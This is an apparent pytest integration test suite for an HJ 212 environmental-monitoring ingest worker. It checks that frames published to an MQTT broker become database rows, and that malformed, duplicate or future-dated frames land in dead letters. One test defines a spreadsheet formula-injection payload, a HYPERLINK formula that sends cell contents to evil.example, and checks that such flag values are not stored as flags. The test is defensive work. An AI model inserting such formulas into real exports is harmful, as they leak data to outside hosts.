"""End to end through the real broker and database: frames published to Mosquitto become rows."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import psycopg
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import ApiSettings
from ingest.hj212 import build_packet, build_segment, encode_cp, parse_packet
from tests.fixtures.mqtt import collector, publisher, running_worker, wait_until
from tests.fixtures.registry import add_outlet

pytestmark = pytest.mark.integration

MN = "010000A8900016F000169DC0"
T0 = datetime(2026, 11, 28, 8, 0, 0)


def packet(
    values: dict[str, dict[str, str]],
    *,
    when: datetime = T0,
    cn: str = "2011",
    mn: str = MN,
    pw: str = "123456",
    flag: int = 4,
    qn: str | None = None,
) -> bytes:
    cp = encode_cp({"DataTime": when.strftime("%Y%m%d%H%M%S")}, values)
    qn = qn or when.strftime("%Y%m%d%H%M%S") + "000"
    return build_packet(build_segment(qn=qn, st="31", cn=cn, pw=pw, mn=mn, flag=flag, cp=cp))


def rtd(so2: str, flag: str = "N", when: datetime = T0, **kw: object) -> bytes:
    return packet(
        {"a21026": {"Rtd": so2, "Flag": flag}, "a19001": {"Rtd": "9.5", "Flag": "N"}},
        when=when,
        **kw,
    )  # type: ignore[arg-type]


def scalar(conn: psycopg.Connection, sql: str) -> object:
    row = conn.execute(sql).fetchone()
    assert row is not None
    return row[0]


def test_published_frames_become_rows(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    oid = add_outlet(db, MN)
    hourly = packet(
        {
            "a21026": {
                "Min": "10.1",
                "Avg": "12.5",
                "Max": "15.0",
                "ZsAvg": "14.2",
                "Cou": "3.2",
                "Flag": "N",
            }
        },
        cn="2061",
    )
    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
        publish(f"hj212/{MN}/up", rtd("35.20"))
        publish(f"hj212/{MN}/up", hourly)
        wait_until(lambda: scalar(db, "SELECT count(*) FROM measurements") == 3, what="3 rows")
    rows = db.execute(
        "SELECT outlet_id, pollutant, kind, ts, value, min, max, cou, zs_value, flag "
        "FROM measurements WHERE pollutant = 'a21026' ORDER BY kind"
    ).fetchall()
    ts = T0.replace(tzinfo=ZoneInfo("Asia/Shanghai"))
    assert rows == [
        (
            oid,
            "a21026",
            "hour",
            ts,
            Decimal("12.5"),
            Decimal("10.1"),
            Decimal("15.0"),
            Decimal("3.2"),
            Decimal("14.2"),
            "N",
        ),
        (oid, "a21026", "rtd", ts, Decimal("35.20"), None, None, None, None, "N"),
    ]
    assert scalar(db, "SELECT count(*) FROM frames WHERE verdict = 'stored' AND crc_ok") == 2


def test_duplicates_are_no_ops_and_changes_are_revisions(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    add_outlet(db, MN)
    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
        for _ in range(3):
            publish(f"hj212/{MN}/up", rtd("35.2"))
        wait_until(lambda: scalar(db, "SELECT count(*) FROM frames") == 1, what="first frame")
        publish(f"hj212/{MN}/up", rtd("88.8", flag="M", qn="20261128080000999"))
        wait_until(
            lambda: scalar(db, "SELECT count(*) FROM measurement_revisions") == 1, what="revision"
        )
    assert scalar(db, "SELECT count(*) FROM measurements") == 2
    assert scalar(db, "SELECT count(*) FROM frames") == 2
    old, new = db.execute("SELECT old, new FROM measurement_revisions").fetchone() or ()
    assert (old["value"], old["flag"], new["value"], new["flag"]) == (35.2, "N", 88.8, "M")
    assert scalar(db, "SELECT revision FROM measurements WHERE pollutant = 'a21026'") == 1


def test_bad_frames_go_to_dead_letters_while_good_ones_flow(
    db: psycopg.Connection, role_urls: dict[str, str], mqtt_url: str
) -> None:
    """The worker as deployed: connected with the ingest processes' own database role."""
    add_outlet(db, MN)
    good = [rtd(str(i), when=T0 + timedelta(seconds=30 * i)) for i in range(5)]
    bad_crc = good[0][:-6] + b"FFFF\r\n"  # low byte FF is never an Appendix A CRC
    wrong_pw = rtd("1", pw="000000", when=T0 + timedelta(hours=1))
    other_mn = rtd("1", mn="FFFFFFFFFFFFFFFFFFFFFFFF", when=T0 + timedelta(hours=2))
    with running_worker(mqtt_url, role_urls["ingest"]), publisher(mqtt_url) as publish:
        publish(f"hj212/{MN}/up", good[0])
        publish(f"hj212/{MN}/up", b"##0042 this is not a frame at all\r\n")
        publish(f"hj212/{MN}/up", good[1])
        publish(f"hj212/{MN}/up", bad_crc)
        publish(f"hj212/{MN}/up", wrong_pw)
        publish(f"hj212/{MN}/up", other_mn)
        publish("hj212/UNKNOWN0000/up", good[2])
        publish(f"sourcewatch/v1/{MN}/data", b"{not json")
        publish(f"hj212/{MN}/up", good[2] + good[3] + good[4])  # glued, in one message
        wait_until(
            lambda: scalar(db, "SELECT count(*) FROM dead_letters") == 6, what="dead letters"
        )
        wait_until(lambda: scalar(db, "SELECT count(*) FROM frames") == 5, what="5 good frames")
    reasons = dict(db.execute("SELECT reason, raw FROM dead_letters").fetchall())
    assert reasons == {
        "length": b"##0042 this is not a frame at all\r\n",
        "crc": bad_crc.rstrip(b"\r\n"),
        "wrong-pw": wrong_pw.rstrip(b"\r\n"),
        "mn-mismatch": other_mn.rstrip(b"\r\n"),
        "unknown-mn": good[2],
        "json": b"{not json",
    }
    assert scalar(db, "SELECT count(*) FROM measurements WHERE pollutant = 'a21026'") == 5


def test_ack_requested_gets_a_9014_reply_after_commit(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    add_outlet(db, MN)
    frame = packet({"a21026": {"Rtd": "1.5", "Flag": "N"}}, flag=5, qn="20261128080000123")
    with (
        collector(mqtt_url, f"hj212/{MN}/down") as replies,
        running_worker(mqtt_url, database_url),
        publisher(mqtt_url) as publish,
    ):
        publish(f"hj212/{MN}/up", frame)
        wait_until(lambda: len(replies) == 1, what="9014 reply")
        assert scalar(db, "SELECT count(*) FROM measurements") == 1
    reply = parse_packet(replies[0][1].rstrip(b"\r\n"))
    assert (reply.cn, reply.st, reply.qn, reply.mn, reply.pw) == (
        "9014",
        "91",
        "20261128080000123",
        MN,
        "123456",
    )


def test_json_uplink(db: psycopg.Connection, database_url: str, mqtt_url: str) -> None:
    add_outlet(db, MN, kind="water")
    body = {
        "mn": MN,
        "pw": "123456",
        "st": "32",
        "cn": "2061",
        "data_time": "2026-11-28T08:00:00+08:00",
        "values": {
            "w01018": {"Avg": "23.5", "Cou": 1.25, "Flag": "N"},
            "w00000": {"Avg": 12, "Cou": "43.2"},
        },
    }
    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
        publish(f"sourcewatch/v1/{MN}/data", json.dumps(body).encode())
        wait_until(lambda: scalar(db, "SELECT count(*) FROM measurements") == 2, what="json rows")
    rows = db.execute(
        "SELECT pollutant, kind, value, cou, flag FROM measurements ORDER BY pollutant"
    ).fetchall()
    assert rows == [
        ("w00000", "hour", Decimal(12), Decimal("43.2"), None),
        ("w01018", "hour", Decimal("23.5"), Decimal("1.25"), "N"),
    ]
    assert scalar(db, "SELECT transport FROM frames") == "mqtt-json"


def test_legacy_2005_codes_are_mapped_for_2005_outlets(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    add_outlet(db, MN, kind="water", protocol_profile="hj212-2005")
    seg = (
        "ST=32;CN=2011;PW=123456;MN="
        + MN
        + ";CP=&&DataTime=20261128080000;011-Rtd=23.1,011-Flag=N;B01-Rtd=3.5&&"
    )
    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
        publish(f"hj212/{MN}/up", build_packet(seg))
        wait_until(lambda: scalar(db, "SELECT count(*) FROM measurements") == 2, what="legacy rows")
    codes = [r[0] for r in db.execute("SELECT pollutant FROM measurements ORDER BY 1")]
    assert codes == ["w00000", "w01018"]


def test_workers_in_a_shared_group_split_the_load(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    add_outlet(db, MN)
    frames = [rtd(str(i), when=T0 + timedelta(seconds=30 * i)) for i in range(200)]
    with (
        running_worker(mqtt_url, database_url, shared_group="ingest") as one,
        running_worker(mqtt_url, database_url, shared_group="ingest") as two,
        publisher(mqtt_url) as publish,
    ):
        for raw in frames:
            publish(f"hj212/{MN}/up", raw)
        wait_until(lambda: scalar(db, "SELECT count(*) FROM frames") == 200, what="200 frames")
    # A worker counts a batch after its commit: read the counts once both workers have stopped.
    assert one.worker.stats.messages + two.worker.stats.messages == 200
    assert one.worker.stats.messages > 0 and two.worker.stats.messages > 0
    assert scalar(db, "SELECT count(*) FROM measurements") == 400
    # the completeness record both workers kept agrees with the rows (issue 14)
    record = db.execute(
        "SELECT pollutant, kind, hour_start, received, valid FROM completeness ORDER BY 1, 2, 3"
    ).fetchall()
    direct = db.execute(
        "SELECT pollutant, kind, date_trunc('hour', ts, 'UTC'), count(*),"
        " count(*) FILTER (WHERE flag = 'N') FROM measurements GROUP BY 1, 2, 3 ORDER BY 1, 2, 3"
    ).fetchall()
    assert record == direct and sum(r[3] for r in record) == 400


def test_data_from_the_future_is_a_dead_letter_and_does_not_blank_the_chart(
    db: psycopg.Connection, role_urls: dict[str, str], mqtt_url: str
) -> None:
    """Issue 15: one frame dated 9999 used to become the outlet's latest data for good, and the
    public chart (drawn up to the latest data) went blank. Now it is a dead letter."""
    oid = add_outlet(db, MN)
    shanghai = ZoneInfo("Asia/Shanghai")
    honest = datetime.now(shanghai).replace(tzinfo=None, microsecond=0) - timedelta(minutes=5)
    soon = honest + timedelta(minutes=15)  # 10 minutes ahead: a drifting clock, within 15
    far = datetime(9999, 12, 31, 23, 0, 0)
    body = {"mn": MN, "pw": "123456", "cn": "2011", "data_time": "9999-12-31T23:00:00+08:00"}
    body["values"] = {"a21026": {"Rtd": "5", "Flag": "N"}}
    with running_worker(mqtt_url, role_urls["ingest"]), publisher(mqtt_url) as publish:
        publish(f"hj212/{MN}/up", rtd("35.2", when=honest))
        publish(f"hj212/{MN}/up", rtd("36.1", when=far))
        publish(f"hj212/{MN}/up", rtd("37.0", when=honest + timedelta(days=1)))
        publish(f"sourcewatch/v1/{MN}/data", json.dumps(body).encode())
        publish(f"hj212/{MN}/up", rtd("35.9", when=soon))
        wait_until(lambda: scalar(db, "SELECT count(*) FROM dead_letters") == 3, what="3 dead")
        wait_until(lambda: scalar(db, "SELECT count(*) FROM frames") == 2, what="2 frames")
    reasons = db.execute("SELECT reason, detail FROM dead_letters ORDER BY id").fetchall()
    assert [r for r, _ in reasons] == ["future"] * 3
    assert "9999-12-31T23:00:00+08:00" in reasons[0][1]
    last = scalar(db, "SELECT last_data_at FROM outlet_activity")
    assert last == soon.replace(tzinfo=shanghai)
    assert scalar(db, "SELECT max(ts) FROM measurements") == soon.replace(tzinfo=shanghai)
    settings = ApiSettings(database_url=role_urls["api"], api_rate_limit_per_minute=10_000)
    with TestClient(create_app(settings)) as client:
        status = client.get(f"/v1/outlets/{oid}").json()["status"]
        assert status["last_data"]["local"] == soon.replace(tzinfo=shanghai).isoformat()


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_flags_that_are_no_code_are_not_stored_as_flags(
    db: psycopg.Connection, database_url: str, mqtt_url: str
) -> None:
    """Issue 15: a flag must be a ``data_flags`` code; anything else (a spreadsheet formula) is
    kept only as sent in ``extra``, and the value is not valid."""
    add_outlet(db, MN, kind="water")
    body = {"mn": MN, "pw": "123456", "cn": "2061", "data_time": "2026-11-28T08:00:00+08:00"}
    body["values"] = {
        "w01018": {"Avg": "23.5", "Flag": EVIL},
        "w21003": {"Avg": "1.5", "Flag": "n", "EFlag": "@SUM(1)"},
        "w00000": {"Avg": "12", "Flag": "D", "EFlag": "A01"},
    }
    with running_worker(mqtt_url, database_url), publisher(mqtt_url) as publish:
        publish(f"sourcewatch/v1/{MN}/data", json.dumps(body).encode())
        publish(f"hj212/{MN}/up", rtd("35.2", flag="=1+2", when=T0 + timedelta(hours=1)))
        wait_until(lambda: scalar(db, "SELECT count(*) FROM measurements") == 5, what="5 rows")
    rows = db.execute(
        "SELECT pollutant, flag, eflag, extra FROM measurements ORDER BY pollutant"
    ).fetchall()
    assert rows == [
        ("a19001", "N", None, None),
        ("a21026", None, None, {"Flag": "=1+2"}),
        ("w00000", "D", "A01", None),
        ("w01018", None, None, {"Flag": EVIL}),
        ("w21003", "n", None, {"EFlag": "@SUM(1)"}),  # lower case: a code, stored as sent
    ]
